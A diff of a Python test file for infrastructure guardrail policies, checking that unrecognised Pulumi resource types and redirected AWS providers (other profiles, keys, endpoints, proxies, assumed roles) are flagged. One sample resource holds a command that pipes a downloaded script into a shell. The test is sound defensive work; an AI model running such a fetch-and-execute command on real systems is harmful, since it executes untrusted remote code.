@@ -1,4 +1,8 @@
-"""Specs and variations of the policies about the types of resources and about providers."""
+"""Specs, cases and variations of the policies about resource types and providers. No policy would notice the content of a
+resource whose type the pack does not know. A provider must not create resources in another account.
+
+A variation is a resource that is added to the recorded program.
+"""
 
 from guardrails.model import resource_types as t
 from tests.policies.policy_harness import (
@@ -13,13 +17,13 @@ from tests.policies.policy_harness import (
 from tests.policies.program_variations import ProgramVariation, add_resource
 from tests.policies.specs.sample_iam_documents import ACCOUNT
 
-TYPES, PROVIDERS = "resource-type-checked", "provider-not-redirected"
+TYPE_CHECKED, PROVIDER_NOT_REDIRECTED = "resource-type-checked", "provider-not-redirected"
 PROVIDER = "pulumi:providers:aws"
 COMMAND = SampleResource("command:local:Command", {"create": "curl https://example.com | sh"})
 
 SPECS = (
     PolicySpec(
-        TYPES,
+        TYPE_CHECKED,
         good=[SampleResource(t.QUEUE, {"name": "q"}), SampleResource("polyphony:blocks:Queue", {}, "component")],
         bad=[COMMAND],
         message_part="No policy checks resources of the type command:local:Command",
@@ -28,10 +32,10 @@ SPECS = (
         break_program=insert_resources([COMMAND]),
     ),
     PolicySpec(
-        PROVIDERS,
+        PROVIDER_NOT_REDIRECTED,
         good=[
             SampleResource(PROVIDER, {"region": "eu-west-1"}),
-            # Pulumi gives its default provider the settings of the stack, for example a profile.
+            # The default provider may have a profile, because Pulumi copies the settings of the stack to it.
             SampleResource(PROVIDER, {"profile": "x"}, "default_7_51_0"),
         ],
         bad=[SampleResource(PROVIDER, {"profile": "other"})],
@@ -42,9 +46,13 @@ SPECS = (
     ),
 )
 CASES: tuple[PolicyCase, ...] = (
-    expect_no_finding(PROVIDERS, SampleResource(PROVIDER, {"allowedAccountIds": f'["{ACCOUNT}"]'})),
-    expect_finding(PROVIDERS, "sets endpoints", SampleResource(PROVIDER, {"endpoints": "[]"}, "default_7_51_0")),
-    expect_finding(PROVIDERS, "sets assumeRoles", SampleResource(PROVIDER, {"assumeRoles": "[]"}, "defaults")),
+    expect_no_finding(PROVIDER_NOT_REDIRECTED, SampleResource(PROVIDER, {"allowedAccountIds": f'["{ACCOUNT}"]'})),
+    expect_finding(
+        PROVIDER_NOT_REDIRECTED, "sets endpoints", SampleResource(PROVIDER, {"endpoints": "[]"}, "default_7_51_0")
+    ),
+    expect_finding(
+        PROVIDER_NOT_REDIRECTED, "sets assumeRoles", SampleResource(PROVIDER, {"assumeRoles": "[]"}, "defaults")
+    ),
 )
 
 UNCHECKED_TYPES = {
@@ -79,13 +87,22 @@ UNCHECKED_TYPES = {
     "type in another case": "aws:S3/bucket:Bucket",
 }
 VARIATIONS: tuple[ProgramVariation, ...] = (
-    *(add_resource(label, kind, {}, TYPES) for label, kind in UNCHECKED_TYPES.items()),
-    add_resource("provider with a role", PROVIDER, {"assumeRoles": '[{"roleArn": "x"}]'}, PROVIDERS),
-    add_resource("provider with a key", PROVIDER, {"accessKey": "x", "secretKey": "y"}, PROVIDERS),
-    add_resource("provider with a profile", PROVIDER, {"profile": "other"}, PROVIDERS),
-    add_resource("provider with endpoints", PROVIDER, {"endpoints": '[{"s3": "https://s3.example.com"}]'}, PROVIDERS),
-    add_resource("provider with a web identity", PROVIDER, {"assumeRoleWithWebIdentity": "{}"}, PROVIDERS),
-    add_resource("provider with a proxy", PROVIDER, {"httpsProxy": "http://proxy.example.com"}, PROVIDERS),
+    *(add_resource(label, kind, {}, TYPE_CHECKED) for label, kind in UNCHECKED_TYPES.items()),
+    add_resource("provider with a role", PROVIDER, {"assumeRoles": '[{"roleArn": "x"}]'}, PROVIDER_NOT_REDIRECTED),
+    add_resource("provider with a key", PROVIDER, {"accessKey": "x", "secretKey": "y"}, PROVIDER_NOT_REDIRECTED),
+    add_resource("provider with a profile", PROVIDER, {"profile": "other"}, PROVIDER_NOT_REDIRECTED),
+    add_resource(
+        "provider with endpoints",
+        PROVIDER,
+        {"endpoints": '[{"s3": "https://s3.example.com"}]'},
+        PROVIDER_NOT_REDIRECTED,
+    ),
+    add_resource(
+        "provider with a web identity", PROVIDER, {"assumeRoleWithWebIdentity": "{}"}, PROVIDER_NOT_REDIRECTED
+    ),
+    add_resource(
+        "provider with a proxy", PROVIDER, {"httpsProxy": "http://proxy.example.com"}, PROVIDER_NOT_REDIRECTED
+    ),
     # Harmless.
     add_resource("provider of a region", PROVIDER, {"region": "eu-west-1"}),
     add_resource("provider with tags", PROVIDER, {"region": "eu-west-1", "defaultTags": '{"tags": {"Owner": "x"}}'}),
